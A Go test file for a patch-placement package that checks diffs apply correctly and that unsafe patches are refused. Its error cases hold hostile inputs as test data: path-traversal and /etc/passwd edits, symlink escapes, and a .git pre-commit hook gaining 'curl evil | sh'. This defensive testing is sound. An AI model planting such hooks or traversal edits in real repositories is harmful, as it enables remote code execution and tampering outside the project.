package repo_test

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pair-cli/pair/edit"
	"github.com/pair-cli/pair/repo"
)

// wantPlan is what a test expects of one FilePlan.
type wantPlan struct {
	oldPath, newPath string
	hunks            int
	result           string // the content Result(nil) gives
}

// lines joins lines with a newline after each: patches and files are
// easier to read one line per string.
func lines(ls ...string) string { return strings.Join(ls, "\n") + "\n" }

var fiveLines = lines("one", "two", "three", "four", "five")

func TestPlace(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		files map[string]string
		patch string
		want  []wantPlan
	}{
		{
			name:  "git diff with a/ and b/ prefixes",
			files: map[string]string{"src/f.txt": fiveLines},
			patch: lines(
				"diff --git a/src/f.txt b/src/f.txt",
				"index 1111111..2222222 100644",
				"--- a/src/f.txt",
				"+++ b/src/f.txt",
				"@@ -1,3 +1,3 @@",
				" one",
				"-two",
				"+TWO",
				" three",
			),
			want: []wantPlan{{"src/f.txt", "src/f.txt", 1, lines("one", "TWO", "three", "four", "five")}},
		},
		{
			name:  "---/+++ with prefixes, no git header",
			files: map[string]string{"f.txt": fiveLines},
			patch: lines("--- a/f.txt", "+++ b/f.txt", "@@ -3,2 +3,2 @@", " three", "-four", "+FOUR"),
			want:  []wantPlan{{"f.txt", "f.txt", 1, lines("one", "two", "three", "FOUR", "five")}},
		},
		{
			name:  "no prefixes, the path as written exists",
			files: map[string]string{"pkg/f.txt": fiveLines},
			patch: lines("--- pkg/f.txt", "+++ pkg/f.txt", "@@ -1,2 +1,2 @@", "-one", "+ONE", " two"),
			want:  []wantPlan{{"pkg/f.txt", "pkg/f.txt", 1, lines("ONE", "two", "three", "four", "five")}},
		},
		{
			name:  "no prefixes, the first directory must be stripped",
			files: map[string]string{"file.go": fiveLines},
			patch: lines("--- x/file.go", "+++ x/file.go", "@@ -1,2 +1,2 @@", "-one", "+ONE", " two"),
			want:  []wantPlan{{"file.go", "file.go", 1, lines("ONE", "two", "three", "four", "five")}},
		},
		{
			name:  "no prefixes, stripped to a nested path",
			files: map[string]string{"pkg/file.go": fiveLines},
			patch: lines("--- orig/pkg/file.go", "+++ new/pkg/file.go", "@@ -1,2 +1,2 @@", "-one", "+ONE", " two"),
			want:  []wantPlan{{"pkg/file.go", "pkg/file.go", 1, lines("ONE", "two", "three", "four", "five")}},
		},
		{
			name: "no prefixes, the path as written wins over the stripped one",
			files: map[string]string{
				"x/file.go": fiveLines,
				"file.go":   "other\n",
			},
			patch: lines("--- x/file.go", "+++ x/file.go", "@@ -1,2 +1,2 @@", "-one", "+ONE", " two"),
			want:  []wantPlan{{"x/file.go", "x/file.go", 1, lines("ONE", "two", "three", "four", "five")}},
		},
		{
			name:  "created file",
			files: map[string]string{"f.txt": fiveLines},
			patch: lines(
				"diff --git a/new/dir/n.txt b/new/dir/n.txt",
				"new file mode 100644",
				"index 0000000..3333333",
				"--- /dev/null",
				"+++ b/new/dir/n.txt",
				"@@ -0,0 +1,2 @@",
				"+hello",
				"+world",
			),
			want: []wantPlan{{"", "new/dir/n.txt", 1, lines("hello", "world")}},
		},
		{
			name:  "created file, plain diff",
			patch: lines("--- /dev/null", "+++ n.txt", "@@ -0,0 +1 @@", "+hi"),
			want:  []wantPlan{{"", "n.txt", 1, lines("hi")}},
		},
		{
			name:  "created file over an empty file",
			files: map[string]string{"empty.txt": ""},
			patch: lines("--- /dev/null", "+++ b/empty.txt", "@@ -0,0 +1 @@", "+now full"),
			want:  []wantPlan{{"", "empty.txt", 1, lines("now full")}},
		},
		{
			name:  "missing file with only added lines is a creation",
			patch: lines("--- a/n.txt", "+++ b/n.txt", "@@ -0,0 +1,2 @@", "+a", "+b"),
			want:  []wantPlan{{"", "n.txt", 1, lines("a", "b")}},
		},
		{
			name:  "missing file with only added lines, no header numbers",
			patch: lines("--- a/d/n.txt", "+++ b/d/n.txt", "@@ @@", "+a"),
			want:  []wantPlan{{"", "d/n.txt", 1, lines("a")}},
		},
		{
			name:  "deleted file",
			files: map[string]string{"gone.txt": lines("a", "b"), "kept.txt": "k\n"},
			patch: lines(
				"diff --git a/gone.txt b/gone.txt",
				"deleted file mode 100644",
				"index 4444444..0000000",
				"--- a/gone.txt",
				"+++ /dev/null",
				"@@ -1,2 +0,0 @@",
				"-a",
				"-b",
			),
			want: []wantPlan{{"gone.txt", "", 1, ""}},
		},
		{
			name:  "deleted file, plain diff",
			files: map[string]string{"gone.txt": lines("a", "b")},
			patch: lines("--- gone.txt", "+++ /dev/null", "@@ -1,2 +0,0 @@", "-a", "-b"),
			want:  []wantPlan{{"gone.txt", "", 1, ""}},
		},
		{
			name:  "rename with changes",
			files: map[string]string{"old.txt": fiveLines},
			patch: lines(
				"diff --git a/old.txt b/sub/new.txt",
				"similarity index 80%",
				"rename from old.txt",
				"rename to sub/new.txt",
				"index 5555555..6666666 100644",
				"--- a/old.txt",
				"+++ b/sub/new.txt",
				"@@ -4,2 +4,2 @@",
				" four",
				"-five",
				"+FIVE",
			),
			want: []wantPlan{{"old.txt", "sub/new.txt", 1, lines("one", "two", "three", "four", "FIVE")}},
		},
		{
			name:  "pure rename",
			files: map[string]string{"old.txt": fiveLines},
			patch: lines(
				"diff --git a/old.txt b/new.txt",
				"similarity index 100%",
				"rename from old.txt",
				"rename to new.txt",
			),
			want: []wantPlan{{"old.txt", "new.txt", 0, fiveLines}},
		},
		{
			// Without git's rename header, different names on the two sides
			// (as diff -u of two trees writes them) modify the old file.
			name:  "different names without a rename header modify the found file",
			files: map[string]string{"old.txt": fiveLines},
			patch: lines("--- x/old.txt", "+++ x/new.txt", "@@ -1,2 +1,2 @@", "-one", "+ONE", " two"),
			want:  []wantPlan{{"old.txt", "old.txt", 1, lines("ONE", "two", "three", "four", "five")}},
		},
		{
			// As git applies them: the second section on the first's result.
			name:  "the same file twice: sections applied in order",
			files: map[string]string{"f.txt": fiveLines},
			patch: lines(
				"--- a/f.txt",
				"+++ b/f.txt",
				"@@ -1,2 +1,2 @@",
				"-one",
				"+ONE",
				" two",
				"--- a/f.txt",
				"+++ b/f.txt",
				"@@ -4,2 +4,2 @@",
				" four",
				"-five",
				"+FIVE",
			),
			want: []wantPlan{
				{"f.txt", "f.txt", 1, lines("ONE", "two", "three", "four", "five")},
				{"f.txt", "f.txt", 1, lines("ONE", "two", "three", "four", "FIVE")},
			},
		},
		{
			name:  "the same file twice, with and without a git header",
			files: map[string]string{"f.txt": fiveLines},
			patch: lines(
				"diff --git a/f.txt b/f.txt",
				"--- a/f.txt",
				"+++ b/f.txt",
				"@@ -4,2 +4,2 @@",
				" four",
				"-five",
				"+FIVE",
				"--- f.txt",
				"+++ f.txt",
				"@@ -1,2 +1,2 @@",
				"-one",
				"+ONE",
				" two",
			),
			want: []wantPlan{
				{"f.txt", "f.txt", 1, lines("one", "two", "three", "four", "FIVE")},
				{"f.txt", "f.txt", 1, lines("ONE", "two", "three", "four", "FIVE")},
			},
		},
		{
			name: "several files, in patch order",
			files: map[string]string{
				"b.txt":     fiveLines,
				"a.txt":     fiveLines,
				"gone.txt":  "x\n",
				"moved.txt": "m\n",
			},
			patch: lines(
				"diff --git a/b.txt b/b.txt",
				"--- a/b.txt",
				"+++ b/b.txt",
				"@@ -1 +1 @@",
				"-one",
				"+uno",
				"diff --git a/new.txt b/new.txt",
				"new file mode 100644",
				"--- /dev/null",
				"+++ b/new.txt",
				"@@ -0,0 +1 @@",
				"+new",
				"diff --git a/gone.txt b/gone.txt",
				"deleted file mode 100644",
				"--- a/gone.txt",
				"+++ /dev/null",
				"@@ -1 +0,0 @@",
				"-x",
				"diff --git a/moved.txt b/there.txt",
				"similarity index 100%",
				"rename from moved.txt",
				"rename to there.txt",
				"diff --git a/a.txt b/a.txt",
				"--- a/a.txt",
				"+++ b/a.txt",
				"@@ -5 +5 @@",
				"-five",
				"+cinque",
			),
			want: []wantPlan{
				{"b.txt", "b.txt", 1, lines("uno", "two", "three", "four", "five")},
				{"", "new.txt", 1, "new\n"},
				{"gone.txt", "", 1, ""},
				{"moved.txt", "there.txt", 0, "m\n"},
				{"a.txt", "a.txt", 1, lines("one", "two", "three", "four", "cinque")},
			},
		},
		{
			name:  "a fenced diff in prose, with CRLF",
			files: map[string]string{"f.txt": fiveLines},
			patch: strings.ReplaceAll(lines(
				"Here is the change:",
				"",
				"```diff",
				"--- a/f.txt",
				"+++ b/f.txt",
				"@@ -2,2 +2,2 @@",
				"-two",
				"+2",
				" three",
				"```",
				"",
				"That is all.",
			), "\n", "\r\n"),
			want: []wantPlan{{"f.txt", "f.txt", 1, lines("one", "2", "three", "four", "five")}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			writeFiles(t, root, texts(tt.files))
			before := snapshot(t, root)
			tr := openTree(t, root)
			p, err := edit.Parse(tt.patch)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			plans, err := tr.Place(p)
			if err != nil {
				t.Fatalf("Place: %v", err)
			}
			checkPlans(t, plans, tt.want)
			sameSnapshot(t, "after Place", snapshot(t, root), before)
		})
	}
}

func checkPlans(t *testing.T, plans []*edit.FilePlan, want []wantPlan) {
	t.Helper()
	if len(plans) != len(want) {
		var got []string
		for _, pl := range plans {
			got = append(got, pl.OldPath+" -> "+pl.NewPath)
		}
		t.Fatalf("Place gave %d plans %q, want %d", len(plans), got, len(want))
	}
	for i, pl := range plans {
		w := want[i]
		if pl.OldPath != w.oldPath || pl.NewPath != w.newPath {
			t.Errorf("plan %d: OldPath, NewPath = %q, %q, want %q, %q", i, pl.OldPath, pl.NewPath, w.oldPath, w.newPath)
		}
		if len(pl.Errors) > 0 {
			t.Errorf("plan %d (%s): placement errors %v, want none", i, pl.Path(), pl.Errors)
		}
		if len(pl.Hunks) != w.hunks {
			t.Errorf("plan %d (%s): %d placed hunks, want %d", i, pl.Path(), len(pl.Hunks), w.hunks)
		}
		got, err := pl.Result(nil)
		if err != nil {
			t.Errorf("plan %d (%s): Result: %v", i, pl.Path(), err)
		} else if got != w.result {
			t.Errorf("plan %d (%s): Result = %q, want %q", i, pl.Path(), got, w.result)
		}
	}
}

// errAny stands for "some error, no particular sentinel".
var errAny = errors.New("any error")

func TestPlaceErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		files   map[string]string
		patch   string
		wantErr error
	}{
		{
			name:    "creating a file that exists with content",
			files:   map[string]string{"f.txt": "already here\n"},
			patch:   lines("--- /dev/null", "+++ b/f.txt", "@@ -0,0 +1 @@", "+new"),
			wantErr: errAny,
		},
		{
			// git apply: "already exists in working directory".
			name:    "a git creation over an empty file",
			files:   map[string]string{"f.txt": ""},
			patch:   lines("diff --git a/f.txt b/f.txt", "new file mode 100644", "--- /dev/null", "+++ b/f.txt", "@@ -0,0 +1 @@", "+new"),
			wantErr: errAny,
		},
		{
			// diff -N dates an added file's old side the epoch.
			name:    "a diff -N creation over an empty file",
			files:   map[string]string{"f.txt": ""},
			patch:   lines("--- a/f.txt\t1970-01-01 00:00:00.000000000 +0000", "+++ b/f.txt\t2024-01-01 00:00:00.000000000 +0000", "@@ -0,0 +1 @@", "+new"),
			wantErr: errAny,
		},
		{
			name:  "creating a file where a directory is",
			files: map[string]string{"d/x.txt": "x\n"},
			patch: lines(
				"diff --git a/d b/d",
				"new file mode 100644",
				"--- /dev/null",
				"+++ b/d",
				"@@ -0,0 +1 @@",
				"+new",
			),
			wantErr: errAny,
		},
		{
			name:    "a missing file with context lines",
			patch:   lines("--- a/missing.txt", "+++ b/missing.txt", "@@ -1,2 +1,2 @@", " one", "-two", "+TWO"),
			wantErr: fs.ErrNotExist,
		},
		{
			name:    "a missing file with a deleted line only",
			patch:   lines("--- a/missing.txt", "+++ b/missing.txt", "@@ -1 +0,0 @@", "-gone"),
			wantErr: fs.ErrNotExist,
		},
		{
			name:    "a missing file, plain diff, neither candidate exists",
			patch:   lines("--- x/missing.txt", "+++ x/missing.txt", "@@ -1,2 +1,2 @@", " one", "-two", "+TWO"),
			wantErr: fs.ErrNotExist,
		},
		{
			name:    "deleting a missing file",
			patch:   lines("diff --git a/gone.txt b/gone.txt", "deleted file mode 100644", "--- a/gone.txt", "+++ /dev/null", "@@ -1 +0,0 @@", "-x"),
			wantErr: fs.ErrNotExist,
		},
		{
			name:    "renaming a missing file with changes",
			patch:   lines("diff --git a/old.txt b/new.txt", "rename from old.txt", "rename to new.txt", "--- a/old.txt", "+++ b/new.txt", "@@ -1,2 +1,2 @@", " one", "-two", "+TWO"),
			wantErr: fs.ErrNotExist,
		},
		{
			name:  "binary diff",
			files: map[string]string{"img.png": "\x89PNG"},
			patch: lines(
				"diff --git a/img.png b/img.png",
				"index 1234567..89abcde 100644",
				"Binary files a/img.png and b/img.png differ",
			),
			wantErr: edit.ErrBinaryNoData,
		},
		{
			name:  "git binary patch after a text diff",
			files: map[string]string{"f.txt": fiveLines, "img.png": "\x89PNG"},
			patch: lines(
				"diff --git a/f.txt b/f.txt",
				"--- a/f.txt",
				"+++ b/f.txt",
				"@@ -1 +1 @@",
				"-one",
				"+ONE",
				"diff --git a/img.png b/img.png",
				"index 1234567..89abcde 100644",
				"GIT binary patch",
				"literal 5",
				"McmZQzWMXCk000>P3jhEB",
				"",
			),
			wantErr: edit.ErrBinaryMismatch, // img.png is not blob 1234567
		},
		{
			name:    "hunks with no file header",
			files:   map[string]string{"f.txt": fiveLines},
			patch:   lines("@@ -1,3 +1,3 @@", " one", "-two", "+TWO", " three"),
			wantErr: repo.ErrNoFileName,
		},
		{
			name:    "hunks with no file header before a named file",
			files:   map[string]string{"f.txt": fiveLines},
			patch:   lines("@@ -1,2 +1,2 @@", "-one", "+ONE", " two", "--- a/f.txt", "+++ b/f.txt", "@@ -5 +5 @@", "-five", "+FIVE"),
			wantErr: repo.ErrNoFileName,
		},
		{
			name:    "escape with prefixes",
			patch:   lines("--- a/../evil.txt", "+++ b/../evil.txt", "@@ -1 +1 @@", "-secret", "+pwned"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    "escape without prefixes",
			patch:   lines("--- ../evil.txt", "+++ ../evil.txt", "@@ -1 +1 @@", "-secret", "+pwned"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    "escape without prefixes, a stripped name exists",
			files:   map[string]string{"evil.txt": "secret\n"},
			patch:   lines("--- ../evil.txt", "+++ ../evil.txt", "@@ -1 +1 @@", "-secret", "+pwned"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    "escape through a directory",
			files:   map[string]string{"sub/x.txt": "x\n"},
			patch:   lines("--- a/sub/../../evil.txt", "+++ b/sub/../../evil.txt", "@@ -1 +1 @@", "-secret", "+pwned"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    "escape by an absolute path",
			patch:   lines("--- /etc/passwd", "+++ /etc/passwd", "@@ -1 +1 @@", "-root:x:0:0:root:/root:/bin/bash", "+pwned"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    "escape by creation",
			patch:   lines("--- /dev/null", "+++ b/../new-evil.txt", "@@ -0,0 +1 @@", "+pwned"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    "escape by deletion",
			patch:   lines("diff --git a/../evil.txt b/../evil.txt", "deleted file mode 100644", "--- a/../evil.txt", "+++ /dev/null", "@@ -1 +0,0 @@", "-secret"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    "escape by a rename target",
			files:   map[string]string{"f.txt": fiveLines},
			patch:   lines("diff --git a/f.txt b/../moved.txt", "similarity index 100%", "rename from f.txt", "rename to ../moved.txt"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    "escape after a good file",
			files:   map[string]string{"f.txt": fiveLines},
			patch:   lines("--- a/f.txt", "+++ b/f.txt", "@@ -1 +1 @@", "-one", "+ONE", "--- a/../evil.txt", "+++ b/../evil.txt", "@@ -1 +1 @@", "-secret", "+pwned"),
			wantErr: repo.ErrOutsideRepo,
		},
		{
			name:    ".git hook",
			patch:   lines("--- a/.git/hooks/pre-commit", "+++ b/.git/hooks/pre-commit", "@@ -1 +1,2 @@", " #!/bin/sh", "+curl evil | sh"),
			wantErr: repo.ErrGitInternal,
		},
		{
			name: ".git hook created",
			patch: lines(
				"diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit",
				"new file mode 100755",
				"--- /dev/null",
				"+++ b/.git/hooks/pre-commit",
				"@@ -0,0 +1,2 @@",
				"+#!/bin/sh",
				"+curl evil | sh",
			),
			wantErr: repo.ErrGitInternal,
		},
		{
			name:    ".git config, upper case, plain diff",
			patch:   lines("--- .GIT/config", "+++ .GIT/config", "@@ -1 +1,2 @@", " [core]", "+\thooksPath = /tmp/evil"),
			wantErr: repo.ErrGitInternal,
		},
		{
			name:    ".git config, reached by stripping the first directory",
			patch:   lines("--- x/.git/config", "+++ x/.git/config", "@@ -1 +1,2 @@", " [core]", "+\thooksPath = /tmp/evil"),
			wantErr: repo.ErrGitInternal,
		},
		{
			name:    ".git as a rename target",
			files:   map[string]string{"hook.sh": "#!/bin/sh\n"},
			patch:   lines("diff --git a/hook.sh b/.git/hooks/pre-commit", "similarity index 100%", "rename from hook.sh", "rename to .git/hooks/pre-commit"),
			wantErr: repo.ErrGitInternal,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			base := t.TempDir()
			root := filepath.Join(base, "root")
			writeFiles(t, base, texts(map[string]string{
				// Outside the tree, with the content the escaping hunks
				// expect: were it read, those hunks would place.
				"evil.txt": "secret\n",
			}))
			if err := os.Mkdir(root, 0o755); err != nil {
				t.Fatal(err)
			}
			writeFiles(t, root, texts(tt.files))
			gitInit(t, root)
			writeFiles(t, root, texts(map[string]string{
				".git/hooks/pre-commit": "#!/bin/sh\n",
				".GIT/config":           "[core]\n", // the same file on a case-insensitive disk
			}))
			before := snapshot(t, base)
			tr := openTree(t, root)
			p, err := edit.Parse(tt.patch)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			plans, err := tr.Place(p)
			if err == nil {
				t.Fatalf("Place: got %d plans and no error, want an error", len(plans))
			}
			if tt.wantErr != errAny && !errors.Is(err, tt.wantErr) {
				t.Errorf("Place: got %v, want an error wrapping %v", err, tt.wantErr)
			}
			if plans != nil {
				t.Errorf("Place: got %d plans with the error, want none", len(plans))
			}
			sameSnapshot(t, "after Place", snapshot(t, base), before)
		})
	}
}

// TestPlaceEscapeThroughSymlink: a patch naming a file behind a link
// that leaves the tree is refused, without reading it.
func TestPlaceEscapeThroughSymlink(t *testing.T) {
	t.Parallel()
	root, _ := symlinkTree(t)
	tr := openTree(t, root)
	for _, name := range []string{"rel-dir/secret.txt", "abs-dir/secret.txt", "rel-file", "abs-file"} {
		p, err := edit.Parse(lines("--- a/"+name, "+++ b/"+name, "@@ -1 +1 @@", "-secret", "+pwned"))
		if err != nil {
			t.Fatal(err)
		}
		plans, err := tr.Place(p)
		if !errors.Is(err, repo.ErrOutsideRepo) {
			t.Errorf("Place(%s) through a link outside: got %d plans, %v, want an error wrapping ErrOutsideRepo", name, len(plans), err)
		}
	}
}
